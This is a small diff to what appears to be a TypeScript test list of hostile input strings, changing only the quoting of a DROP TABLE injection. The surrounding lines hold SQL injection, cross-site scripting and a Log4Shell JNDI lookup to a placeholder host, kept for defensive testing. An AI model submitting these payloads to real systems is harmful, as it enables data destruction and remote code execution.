@@ -62,7 +62,7 @@ export const HOSTILE_STRINGS: readonly string[] = [
   "\ud800",
   "Ω≈ç√∫˜µ≤≥÷",
   "' OR 1=1 --",
-  "\"; DROP TABLE users; --",
+  '"; DROP TABLE users; --',
   "<script>alert(1)</script>",
   // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell probe, meant literally
   "${jndi:ldap://x.invalid/a}",
